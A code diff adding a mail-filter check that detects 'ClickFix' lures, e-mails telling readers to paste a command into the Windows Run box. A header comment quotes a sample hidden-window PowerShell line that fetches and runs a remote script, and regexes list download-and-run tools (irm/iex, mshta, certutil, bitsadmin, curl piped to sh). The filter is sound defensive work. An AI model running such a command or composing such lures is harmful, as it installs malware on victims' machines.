@@ -1,0 +1,75 @@
+// "ClickFix" by e-mail (inbound): "Outlook shows a certificate error. 1. Press the Windows key + R
+// 2. Paste the line below (Ctrl+V) 3. Press Enter:  powershell -w h -nop -c "irm https://…/kb50 | iex"".
+// No attachment and no link for a filter to judge: the reader downloads and runs the program
+// himself, with his own rights, past every attachment and URL check.
+//  - PASTE_COMMAND_LURE: the text (or an attached document's) holds a command line that downloads
+//    and runs something (PowerShell with `irm`/`iwr`/`Invoke-WebRequest`/`DownloadString` and
+//    `iex`, or an encoded command; `mshta` with a web address; `curl … | sh`, `bash -c "$(curl …)"`;
+//    `certutil -urlcache`, `bitsadmin /transfer`), and tells the reader where to paste it: the Run
+//    box (Windows key + R, in the offices' languages), a terminal, or Ctrl+V and Enter.
+// A vendor's support mail may quote a command; one that fetches a program from the web and runs
+// it, to be pasted into the Run box, is the lure's alone.
+import { z } from 'zod';
+import { readerTexts } from '../../content/document-text.ts';
+import { comparableText, phrasePattern } from '../../content/phrases.ts';
+import type { Check } from '../types.ts';
+
+/** a command line that downloads something and runs it (read as comparableText writes it: small letters) */
+const DOWNLOAD_AND_RUN = new RegExp([
+  // PowerShell: fetch and invoke, or an encoded command
+  String.raw`(?:powershell|pwsh)(?:\.exe)?\b[^\n]{0,200}?(?:\b(?:irm|iwr|invoke-restmethod|invoke-webrequest|downloadstring|downloadfile|start-bitstransfer|net\.webclient)\b[^\n]{0,200}?(?:\biex\b|invoke-expression|\|\s*iex|start-process)|\s-(?:e|ec|enc|encodedcommand)\s+[a-z0-9+/=]{20,})`,
+  String.raw`\b(?:iex|invoke-expression)\s*\(?\s*\(?\s*(?:irm|iwr|new-object\s+net\.webclient)`,
+  // mshta, certutil, bitsadmin with a web address
+  String.raw`\bmshta(?:\.exe)?\s+["']?https?:\/\/\S+`,
+  String.raw`\bcertutil(?:\.exe)?\s+[^\n]{0,40}-urlcache[^\n]{0,80}https?:\/\/`,
+  String.raw`\bbitsadmin(?:\.exe)?\s+\/transfer[^\n]{0,120}https?:\/\/`,
+  // a shell fetching a script and running it (the macOS and Linux form)
+  String.raw`\bcurl\s+[^\n|]{0,120}https?:\/\/[^\n|]{0,200}\|\s*(?:ba|z)?sh\b`,
+  String.raw`\b(?:ba|z)?sh\s+-c\s+["']?\$\(\s*curl\s`,
+].join('|'), 'i');
+
+/** where the reader is to paste it: the Run box, a terminal, Ctrl+V and Enter */
+const PASTE_WHERE = phrasePattern([
+  String.raw`(?:windows|win|⊞)(?: key| logo key|-taste| taste|-tast)? ?\+ ?r(?![\p{L}\p{N}])`,
+  String.raw`(?:tecla|tasto|klawisz\p{L}*|клавиш\p{L}*|πληκτρο) (?:de |di |z )?(?:windows|win) ?\+ ?r(?![\p{L}\p{N}])`,
+  String.raw`(?:run box|run dialog|ausfuhren-dialog|dialogfeld ausfuhren|cuadro ejecutar|finestra esegui|okno uruchamiania|окно выполнить|παραθυρο εκτελεσης)`,
+  String.raw`(?:ctrl|strg) ?\+ ?v`,
+  // not "PowerShell": the command names it itself
+  String.raw`(?:terminal|eingabeaufforderung|command prompt|simbolo del sistema|prompt dei comandi|wiersz polecen|командн\p{L}* строк\p{L}*)`,
+]);
+
+export const pasteCommandOptionsSchema = z.strictObject({});
+export type PasteCommandOptions = z.infer<typeof pasteCommandOptionsSchema>;
+
+/** The download-and-run command and where it is to be pasted in texts (see readerTexts), each the first found. */
+export function pasteCommandSigns(texts: ReadonlyArray<{ text: string }>): { command: string | null; where: string | null } {
+  let command: string | null = null, where: string | null = null;
+  for (const t of texts) {
+    command ??= DOWNLOAD_AND_RUN.exec(t.text)?.[0] ?? null;
+    where ??= PASTE_WHERE.exec(comparableText(t.text))?.[0] ?? null;
+  }
+  return { command, where };
+}
+
+/** the command shown in the detail, at most this long */
+const SHOWN = 100;
+
+export const pasteCommandCheck: Check<'data', PasteCommandOptions> = {
+  name: 'paste-command',
+  phase: 'data',
+  symbols: ['PASTE_COMMAND_LURE'],
+  options: pasteCommandOptionsSchema,
+  directions: ['inbound'],
+  async run(ctx) {
+    if (ctx.session.trusted) return [];
+    const texts = await readerTexts(await ctx.parsed());
+    // the command first: almost no mail holds one, and where to paste is common words
+    if (!texts.some((t) => DOWNLOAD_AND_RUN.test(t.text))) return [];
+    const { command, where } = pasteCommandSigns(texts);
+    if (!command || !where) return [];
+    const shown = command.replace(/\s+/g, ' ');
+    return [{ symbol: 'PASTE_COMMAND_LURE', detail: `a command that downloads and runs: "${shown.length > SHOWN ? `${shown.slice(0, SHOWN - 3)}...` : shown}", to paste at "${where}"` }];
+  },
+};
+
+export default pasteCommandCheck;
